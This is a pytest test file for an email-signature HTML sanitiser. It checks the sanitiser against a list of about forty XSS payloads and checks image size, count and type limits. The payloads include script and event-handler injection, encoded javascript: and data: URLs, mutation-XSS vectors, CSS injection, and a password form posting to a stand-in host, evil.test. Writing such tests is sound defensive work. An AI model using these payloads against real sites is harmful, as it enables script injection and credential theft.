"""The signature sanitiser against an XSS list, and the limits on images."""

import base64
import re
from html.parser import HTMLParser

import pytest

from accounts.signatures import MAX_IMAGES, TAGS, SignatureError, clean_signature

PNG = base64.b64encode(
    bytes.fromhex(
        "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
        "0000000d4944415478da63f8cfc0f01f0005000201ea2a5d3a0000000049454e44ae426082"
    )
).decode()
IMAGE = f"data:image/png;base64,{PNG}"

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>@import 'https://evil.test/x.css'; p { color: red }</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    '<img src="https://evil.test/x.png" style="behavior:url(x.htc)">',
    '<form action="https://evil.test"><input name="password"><button>go</button></form>',
    '<iframe src="https://evil.test"></iframe>',
    '<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x">',
    '<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test">',
    '<link rel="stylesheet" href="https://evil.test/x.css">',
    "<p onmouseover=alert(1)>x</p>",
    "<!--<img src=x onerror=alert(1)>-->",
    '<div style="background-image: url(&quot;javascript:alert(1)&quot;)">x</div>',
    "<template><img src=x onerror=alert(1)></template>",
    '<a href="https://example.com" target="_self" onclick="steal()">ok</a>',
    "<img/src/onerror=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    # Characters a browser drops from a URL (tab, line breaks; leading controls and
    # spaces), written as entities so that they reach the sanitiser's URL check.
    '<a href="data&#x09;:text/html,<script>alert(1)</script>">x</a>',
    '<a href="d&#x0a;ata:text/html,<script>alert(1)</script>">x</a>',
    '<a href="&#x01;data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="&#x1f; DATA:text/html,<script>alert(1)</script>">x</a>',
    '<a href="&#x01;javascript:alert(1)">x</a>',
    '<a href="&#x0d;vbscript:msgbox(1)">x</a>',
    '<img src="&#x01;data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<img src="https://example.com/x.png" srcset="https://evil.test/x.png 2x">',
    '<p style="color: red; background: u&#x72;l(https://evil.test/x)">x</p>',
    '<p style="color: red; background-image: URL(https://evil.test/x)">x</p>',
    '<p style="font-family: a\\,url(x)">x</p>',
    '<svg><image href="https://evil.test/x.png"/></svg>',
]


class _Structure(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def _assert_inert(html: str) -> None:
    structure = _Structure()
    structure.feed(html)
    assert set(structure.tags) <= TAGS, html
    for tag, name, value in structure.attributes:
        # As a browser reads a URL: without controls and spaces.
        lowered = re.sub(r"[\x00-\x20]", "", value.lower())
        assert not name.startswith("on") and name != "srcset", html
        if name in {"href", "src"}:
            assert not lowered.startswith(("javascript:", "vbscript:")), html
            if lowered.startswith("data:"):
                assert (tag, name) == ("img", "src") and lowered.startswith("data:image/png"), html
        if name == "style":
            assert "expression" not in lowered and "url(" not in lowered, html
            assert "behavior" not in lowered, html


@pytest.mark.parametrize("attack", ATTACKS)
def test_it_lets_nothing_dangerous_through(attack):
    try:
        cleaned = clean_signature(f"<p>Jane</p>{attack}<p>Sales</p>").html
    except SignatureError:
        return  # refused outright, with a reason for the user
    _assert_inert(cleaned)
    # What comes before survives; an unclosed <style> or <svg> may swallow what follows.
    assert cleaned.startswith("<p>Jane</p>")


def test_it_keeps_a_benign_signature_with_formatting_and_an_image_intact():
    signature = (
        '<p style="color: #336699; font-family: Georgia"><b>Jane Doe</b> · <i>Sales</i><br>'
        '<a href="https://example.com">example.com</a> · <a href="tel:+4930123">+49 30 123</a></p>'
        f'<table><tbody><tr><td><img src="{IMAGE}" alt="Logo" width="80"></td>'
        "<td><ul><li>Grüße</li></ul></td></tr></tbody></table>"
    )
    cleaned = clean_signature(signature)
    assert cleaned.images == 1
    for kept in (
        '<p style="color:#336699;font-family:Georgia">',
        "<b>Jane Doe</b> · <i>Sales</i><br>",
        '<a href="https://example.com" rel="noopener noreferrer">example.com</a>',
        '<a href="tel:+4930123" rel="noopener noreferrer">+49 30 123</a>',
        f'<img src="{IMAGE}" alt="Logo" width="80">',
        "<li>Grüße</li>",
    ):
        assert kept in cleaned.html


def test_it_refuses_an_image_over_the_size_limit_and_says_which():
    big = base64.b64encode(base64.b64decode(PNG) + b"\0" * 1_200_000).decode()
    with pytest.raises(SignatureError) as refused:
        clean_signature(f'<img src="{IMAGE}"><img src="data:image/png;base64,{big}">')
    assert str(refused.value) == "Image 2 is 1.2 MB; each image may be at most 1 MB."


def test_it_refuses_too_many_images():
    with pytest.raises(SignatureError) as refused:
        clean_signature(f'<img src="{IMAGE}">' * (MAX_IMAGES + 1))
    assert str(refused.value) == "The signature has 6 images; it may have at most 5."


def test_it_refuses_an_image_that_is_not_what_it_says():
    fake = base64.b64encode(b"<script>alert(1)</script>").decode()
    with pytest.raises(SignatureError) as refused:
        clean_signature(f'<img src="data:image/png;base64,{fake}">')
    assert str(refused.value) == "An image is not the image/png it says it is; insert it again."


def test_it_refuses_images_of_other_types():
    with pytest.raises(SignatureError) as refused:
        clean_signature('<img src="data:image/svg+xml;base64,PHN2Zz4=">')
    assert "Images of type image/svg+xml cannot be used" in str(refused.value)
